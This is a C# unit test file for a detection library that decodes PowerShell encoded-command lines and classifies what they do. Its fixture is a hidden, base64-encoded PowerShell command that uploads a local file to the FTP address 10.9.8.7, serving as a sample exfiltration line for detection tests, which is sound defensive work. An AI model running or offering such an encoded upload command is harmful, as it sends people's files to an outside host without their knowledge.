using System.Text;
using Det0131.Models.Knowledge.CommandLines;

namespace Det0131.Models.Tests.Knowledge.CommandLines;

public class EncodedCommandTests
{
    private const string Script = "(New-Object Net.WebClient).UploadFile('ftp://10.9.8.7/x','c:\\f')  ";

    [Theory]
    [InlineData("-e")]
    [InlineData("-ec")]
    [InlineData("-Enc")]
    [InlineData("-EncodedCommand")]
    public void Decode_Flag_GivesTheCommand(string flag)
    {
        // Encoded by the library, as PowerShell's documentation tells to.
        var line = $"powershell.exe -NoP -w hidden {flag} {Convert.ToBase64String(Encoding.Unicode.GetBytes(Script))}";

        var decoded = EncodedCommand.Decode(line);

        Assert.StartsWith("(New-Object Net.WebClient).UploadFile('ftp://10.9.8.7/x','c:\\f')", decoded, StringComparison.Ordinal);
        var facts = CommandLineReader.Shipped.Read(decoded, "powershell.exe", default);
        Assert.Equal(("upload-file", "ftp", "10.9.8.7"), (facts.Verb, facts.Target.Application, facts.Target.Host.ToString()));
    }

    [Theory]
    [InlineData("powershell -ep bypass -c x")]
    [InlineData("powershell -enc")]
    [InlineData("powershell -enc ====")]
    [InlineData("powershell -enc !!!!!!!!!!!!")]
    [InlineData("powershell -enc AAAAAAAAAAAAAAAA")]
    [InlineData("")]
    public void Decode_NoEncodedCommand_IsNull(string line)
    {
        Assert.Null(EncodedCommand.Decode(line));
    }

    [Fact]
    public void Decode_LongText_IsCut()
    {
        var line = "powershell -enc " + Convert.ToBase64String(Encoding.Unicode.GetBytes(new string('a', 1_000_000)));

        Assert.Equal(EncodedCommand.LongestText / 8 * 3, EncodedCommand.Decode(line)!.Length);
    }
}
